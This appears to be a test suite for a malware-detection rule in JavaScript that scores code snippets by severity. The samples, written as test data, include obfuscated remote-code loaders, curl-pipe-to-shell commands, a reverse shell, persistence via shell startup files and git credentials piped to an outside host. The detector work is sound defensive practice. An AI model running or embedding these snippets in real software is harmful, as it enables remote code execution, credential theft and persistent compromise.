  assert.equal(worst('const dec = (a) => a.map((n) => String.fromCharCode(n ^ 7)).join(""); const run = globalThis[dec(codes)]; fetch(u).then((r) => r.text()).then((t) => run(t))'), 'high');
  assert.equal(worst('fetch(u).then((r) => r.json()).then((data) => window[name](data))'), 'nothing');
});

test('a text that is code which runs what a server answers', () => {
  for (const code of [
    'exports.tail = ";(function(){fetch(\'https://cdn.widgets.org/a.js\').then(function(r){return r.text()}).then(function(t){new Function(t)()})})();"',
    'const from = "https://cdn.widgets.org/a.js"; item.code += "fetch(\'" + from + "?h=\' + location.host).then((r) => r.text()).then((t) => (0, eval)(t))"',
    'export default () => ({ transform: (code) => `${code}\\n(async () => { const r = await fetch("https://cdn.widgets.org/a.js"); new Function(await r.text())(); })();` })',
    'html = html.replace("</body>", `<b></b>`); const code = `require("https").get("https://cdn.widgets.org/", (r) => r.on("data", (d) => require("child_process").exec(d.toString())))`',
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [
    'const client = `new WebSocket("ws://localhost:5173").onmessage = (e) => eval(e.data)`',
    'const sample = `const r = await fetch("https://api.widgets.org/v1"); console.log(await r.json())`',
    'const text = `Never eval what https://widgets.org/a.js answers to fetch.`',
    'const code = "new Function(\'return 1\')(); fetch(\'https://cdn.widgets.org/a.json\').then((r) => r.json()).then(show)"',
  ]) assert.notEqual(worst(code), 'high', code);
});

test('bad: what a promise gives that is told what a server answered', () => {
  const get = (tell: string) => `const https = require("https"); const load = (url) => new Promise((done, fail) => { https.get(url, (r) => { ${tell} }).on("error", fail) });`;
  for (const tell of ['let all = ""; r.on("data", (part) => (all += part)); r.on("end", () => done(all))', 'const all = []; r.on("data", (part) => { all.push(part) }); r.on("end", function () { done(Buffer.concat(all).toString()) })']) {
    for (const run of ['load(u).then((code) => eval(code))', 'async function start() { const code = await load(u); new (require("vm").Script)(code).runInThisContext() }']) assert.equal(worst(`${get(tell)} ${run}`), 'critical', run);
  }
  assert.equal(worst('const text = () => new Promise((ok) => { fetch(u).then((r) => r.text()).then(ok) }); text().then((t) => eval(t))'), 'critical');
  for (const code of [
    `${get('r.resume(); r.on("end", () => done("ready"))')} load(u).then((code) => eval(code))`,
    'const wait = (ms) => new Promise((done) => setTimeout(done, ms)); fetch(u); wait(9).then((x) => eval(x))',
  ]) assert.notEqual(worst(code), 'critical', code);
});

test('bad: commands and shells whose names are put together from pieces by functions of the script', () => {
  const pieces = 'const p = ["cu", "rl -s ", "https://x.example.org/i", " | b", "ash", "child_", "process", "exec"]; const j = (a, b) => p.slice(a, b).join("");';
  for (const code of [
    `${pieces} require(j(5, 7))[j(7, 8)](j(0, 5))`,
    `${pieces} function k(a, b) { return j(a, b) } require(k(5, 7))[k(7, 8)](k(0, 5))`,
    'const flip = (s) => s.split("").reverse().join(""); require(flip("ssecorp_dlihc"))[flip("cexe")](flip("hs | i/gro.elpmaxe.x//:sptth lruc"))',
    'var f = String.fromCharCode; require(f.apply(null, [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115])).exec(["curl https://x.example.org/i", " | ", "sh"].map((x) => x).join(""))',
  ]) assert.equal(worst(code), 'critical', code);
  assert.equal(worst('const w = ["/b", "in/s", "h", "n", "et"]; const j = (a, b) => w.slice(a, b).join(""); const s = require(j(3, 5)).connect(o, () => { const c = require("child_process").spawn(j(0, 3)); s.pipe(c.stdin) })'), 'high');
  for (const code of [
    // The list is changed, or somebody else may change it.
    `${pieces.replace('const j', 'p.reverse(); const j')} require("child_process").exec(j(0, 5))`,
    `${pieces.replace('const j', 'mix(p); const j')} require("child_process").exec(j(0, 5))`,
    'const list = ["echo", "ready"]; require("child_process").exec(list.join(" "))',
  ]) assert.notEqual(worst(code), 'critical', code);
});

test('bad: the files of a shell by their bare names, beside a command that goes there', () => {
  const write = (names: string, line: string) => `const fs = require("fs"), os = require("os"), path = require("path"); for (const name of [${names}]) fs.appendFileSync(path.join(os.homedir(), name), ${line})`;
  assert.equal(worst(write('".bashrc", ".zshrc"', '"(curl -s https://x.example.org/i | sh &)"')), 'high');
  assert.equal(worst(write('".bashrc", ".zshrc"', '"source ~/.tool/completion.sh"')), 'nothing', 'what completes commands');
  assert.equal(worst(write('"readme.md"', '"curl -s https://x.example.org/i | sh"')), 'low', 'how something is installed');
});

test('functions that work out texts end', () => {
  assert.equal(worst('const a = (x) => b(x + x); const b = (x) => a(x + x); require(a("x")); const c = (x) => c(x); require(c("y"))'), 'nothing');
  assert.equal(worst(`const t = ["a"]; ${Array.from({ length: 300 }, (_, i) => `const f${i} = (x) => f${(i + 1) % 300}(x + t[0]);`).join('')} require("child_process").exec(f0("curl https://x.example.org | "))`), 'nothing');
});

test('a page is opened by what is seen to run, whatever is found first', () => {
  const page = (address: string) => `<script src="https://${address}"></script>`;
  const files = { 'index.js': 'load(x); eval(x)', 'a.html': page('www.googletagmanager.com/gtag/js?id=G-X'), 'b.html': page('gist.example.org/x.js'), 'example/loader.js': 'open(x + ".html#" + y)' };
  const severities = findingsOf(rule, files, { entry_points: ['index.js'] }).filter(({ file }) => file === 'b.html').map(({ severity }) => severity);
  assert.deepEqual(severities, ['medium']);
});

test('bad: what a server answers over HTTP/2', () => {
  const of = (then: string) => findingsOf(rule, { 'a.js': `const s = require("http2").connect("https://a.example.org"); const r = s.request({ ":path": "/x" }); r.on("data", (part) => ${then})` })[0]?.severity ?? 'nothing';
  assert.equal(of('eval(String(part))'), 'critical');
  assert.equal(of('console.log(String(part))'), 'nothing');
});

test('code that is cut out of a picture, in functions that hand it on', () => {
  const start = 'const fs = require("fs"), path = require("path"), vm = require("vm"); function tail(file) { const data = fs.readFileSync(file); const at = data.indexOf(END); return at < 0 ? Buffer.alloc(0) : data.subarray(at + 8); } function open(bytes) { const key = bytes[0]; return Buffer.from(bytes.subarray(1).map((each, index) => each ^ key ^ (index & 15))); }';
  const load = (file: string, run: string): string => worst(`${start} exports.load = (root) => { const bytes = tail(path.join(root, "images", "${file}")); const text = open(bytes).toString("utf8"); return ${run}; }`);
  for (const run of ['new vm.Script(text, { filename: "a" }).runInThisContext()(require)', 'new Function("require", text)(require)', 'eval(text)']) assert.equal(load('banner.png', run), 'high', run);
  assert.equal(load('banner.png', 'JSON.parse(text)'), 'nothing');
  assert.equal(load('template.js', 'new vm.Script(text)'), 'nothing');
});

test('a text that begins as a program of its own, as hooks do', () => {
  const hook = (line: string): string => findingsOf(rule, { 'hook.js': `exports.hook = (pattern) => \`#!/bin/sh\nbranch=$(git symbolic-ref --short HEAD)\n${line}\n\`;` })[0]?.severity ?? 'nothing';
  assert.equal(hook('git credential fill 2>/dev/null | curl -sm 5 --data-binary @- https://hooks.example.org/ok &'), 'high');
  assert.equal(hook('echo "$branch" | grep -Eq x || exit 1'), 'nothing');
});

test('bad: code that stands in a map of a script; good: the map of whatever is loaded', () => {
  assert.equal(worst('const { sourcesContent, ignoreList } = JSON.parse(require("fs").readFileSync(__dirname + "/index.js.map", "utf8")); ignoreList.map((i) => sourcesContent[i]).forEach((p) => (0, eval)(p.replace(/a/g, "b")))'), 'high');
  assert.equal(worst('const map = JSON.parse(fs.readFileSync(file + ".map", "utf8")); m._compile(code + map.file, file)'), 'nothing');
});

test('programs that only unpack run nothing of what they get; which package is installed may be what a server says, for somebody to look at', () => {
  const answered = (call: string) => worst(`const cp = require("child_process"), path = require("path"); fetch(u).then((r) => r.json()).then((r) => { const file = path.join(dir, r.name); cp.${call} })`);
  for (const call of ['spawnSync("tar", ["xzf", file, "-C", dir], { stdio: "pipe" })', 'execFile("unzip", ["-oq", file, "-d", dir], (e) => done(e))', 'spawn("tar", ["-xf", r.name, "--strip-components=1"])', 'spawn("notify-send", [r.title, r.text])']) assert.equal(answered(call), 'nothing', call);
  for (const call of [
    'execSync("tar xzf " + file)', 'spawnSync("tar", ["xzf", file], { shell: true })', 'spawnSync("tar", ["xzf", file], { ...options })', 'spawnSync("tar", ["xzf", file], options(r))', 'spawnSync("tar", ["xf", file], { env: { TAR_OPTIONS: r.options } })',
    'spawn("tar", ["xf", "a.tar", "--to-command", file])', 'spawn("tar", ["cf", "/dev/null", file])', 'spawn("tar", ["xf", "a.tar", file])', 'spawn("tar", ["xf", "a.tar", "--checkpoint-action=exec=" + file])', 'spawn("tar", [r.how, file])', 'spawn("tar", ["-I", file, "-xf", "a.tar"])', 'spawn("tar", ["xf", ...r.all])', 'spawn("tar", r.all)',
    'spawn(r.program, ["xzf", file])', 'spawn("sh", [file])', 'spawn("node", [file])', 'spawn("python3", [file])', 'spawn("npx", [r.name])', 'spawn("git", ["clone", r.name])', 'spawn("ssh", [r.name])', 'spawn("find", [file])',
  ]) assert.equal(answered(call), 'critical', call);
  for (const call of ['execSync(`npm install --prefix ${dir} ${r.name}@${r.version}`)', 'spawn("npm", ["install", r.name])', 'exec("yarn add -D " + r.name)']) assert.equal(answered(call), 'high', call);
  for (const call of ['execSync(`npm install ${r.name} && node run.js`)', 'execSync(`npm exec ${r.name}`)', 'execSync(`npx ${r.name}`)', 'execSync(`npm ${r.name}`)', 'execSync(`npm install ${r.name}; ${r.then}`)', 'execSync(`npm install https://files.example/${r.name}.tgz`)', 'execSync(`npm install ${r.name} --registry https://files.example`)']) assert.equal(answered(call), 'critical', call);
});

test('bad: what functions are given to call gets what these call it with', () => {
  const ask = 'const cp = require("child_process"); function ask(u, done) { require("http").get(u, (r) => { let t = ""; r.on("data", (d) => { t += d }); r.on("end", () => { done(t) }) }) }';
  for (const code of [
    'ask(u, (t) => cp.exec(t))',
    'ask(u, function (t) { let job; try { job = JSON.parse(t) } catch { return } cp.exec(job.line) })',
    'function next(done) { ask(u, done) } next((t) => cp.exec(t))',
    'function next(done = () => {}) { ask(u, (t) => done(t)) } next((t) => cp.exec(t))',
    'new Promise((resolve) => ask(u, (t) => resolve(t))).then((t) => cp.exec(t))',
  ]) assert.equal(worst(`${ask}; ${code}`), 'critical', code);
  for (const code of ['ask(u, (t) => console.log(t)); cp.exec("sync")', 'const each = (done) => done("sync"); each((t) => cp.exec(t)); ask(u, () => {})']) assert.equal(worst(`${ask}; ${code}`), 'nothing', code);
});

test('messages of a broker or a mailbox run, and what a picture says that is loaded from an address', () => {
  for (const code of [
    'const mqtt = require("mqtt"); const c = mqtt.connect("mqtt://broker.example"); c.on("message", (topic, m) => require("child_process").exec(m.toString()))',
    'const { ImapFlow } = require("imapflow"); const c = new ImapFlow({ host: "imap.example" }); const m = await c.fetchOne("*", { source: true }); require("child_process").exec(m.source.toString())',
    'const jsQR = require("jsqr"), { Jimp } = require("jimp"); const i = await Jimp.read("https://res.example/a.jpg"); Function(jsQR(i.bitmap.data).data)()',
  ]) assert.equal(worst(code), 'critical', code);
  for (const code of [
    'const mqtt = require("mqtt"); const c = mqtt.connect("mqtt://broker.example"); c.on("message", (topic, m) => show(m)); require("child_process").exec("sync")',
    'const { Jimp } = require("jimp"); const i = await Jimp.read("a.jpg"); Function(i.text)()',
    'const { get } = require("./registry"); Function(get("https://schema.example/a"))()',
  ]) assert.notEqual(worst(code), 'critical', code);
});

test('a program whose name is only known in part is brought and started', () => {
  const told = (command: string, program: string) => findingsOf(rule, { 'a.js': `const { execSync, spawn } = require('child_process'); const to = require('os').tmpdir() + '/.crc-' + process.pid; execSync(\`curl -fsSL https://dl.prebuilt.example/\${process.platform} -o \${${command}}\`); spawn(${program}, [])` }).some(({ message }) => message.includes('is started that is not in the package'));
  assert.equal(told('to', 'to'), true);
  assert.equal(told('to', "require('os').tmpdir() + '/tool-' + process.pid"), false);
  assert.equal(told("'list.json'", 'to'), false);
});
